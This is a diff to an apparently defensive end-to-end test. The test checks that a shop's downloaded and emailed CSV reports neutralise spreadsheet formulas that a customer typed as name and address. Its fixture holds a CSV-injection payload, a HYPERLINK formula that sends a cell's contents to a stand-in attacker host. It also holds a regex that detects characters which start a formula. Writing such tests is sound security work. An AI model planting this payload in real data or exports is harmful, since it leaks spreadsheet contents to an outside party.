@@ -8,13 +8,13 @@ import { mailbox } from '../fixtures/local-stack/mailbox.ts';
 import { placeOrder } from '../fixtures/orders/place-order.ts';
 
 /*
- * A customer who writes formulas where she is asked for her name and address. Staff opens the report in a spreadsheet,
- * which would run them: send what stands beside it to a stranger, or start a program.
+ * A customer enters formulas as name and address. A spreadsheet that opens the report would run them: they could send other cells
+ * to a stranger or start a program.
  */
 const testData = openTestData();
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-/** What a spreadsheet takes for the beginning of one, also behind blanks, and in the width of East Asian letters. */
-const WOULD_RUN = /^\s*[=+\-@＝＋－＠]/;
+/** Matches the characters that start a formula in a spreadsheet, also after blanks and in full width. */
+const FORMULA_START = /^\s*[=+\-@＝＋－＠]/;
 let admin: Account;
 let token: string;
 let orderId: string;
@@ -37,26 +37,26 @@ beforeAll(async () => {
 });
 afterAll(() => testData.close());
 
-function expectHarmless(csv: Uint8Array): void {
+function expectNoFormula(csv: Uint8Array): void {
   const rows = parse<Record<string, string>>(csv, { bom: true, columns: true });
   const row = rows.find((it) => it['Order ID'] === orderId)!;
   const written = Object.values(row).filter((cell) => /HYPERLINK|cmd|SUM|\+/.test(cell));
-  // It is all there, and none of it is run.
+  // The cells are there, and none of them starts a formula.
   expect(written.length).toBeGreaterThanOrEqual(4);
-  expect(Object.entries(row).filter(([, cell]) => WOULD_RUN.test(cell))).toEqual([]);
+  expect(Object.entries(row).filter(([, cell]) => FORMULA_START.test(cell))).toEqual([]);
 }
 
 test('the downloaded report contains no executable formula', async () => {
   const answer = await fetch(`${addresses.shop}/api/reports/download-csv`, {
     headers: { Authorization: `Bearer ${token}` },
   });
-  expectHarmless(Buffer.from(await answer.arrayBuffer()));
+  expectNoFormula(Buffer.from(await answer.arrayBuffer()));
 });
 
-test('nor does the mailed report', async () => {
+test('the mailed report contains no executable formula', async () => {
   const email = `formulas-${admin.email}`;
   const body = { email, reportType: 'csv', date: dhakaDay(new Date()) };
   expect((await call('/api/reports/email-report', { method: 'POST', token, body })).status).toBe(200);
   const [mail] = await mailbox.mailsTo(email);
-  expectHarmless(Buffer.from(mail!.attachments[0]!.content, 'base64'));
+  expectNoFormula(Buffer.from(mail!.attachments[0]!.content, 'base64'));
 });
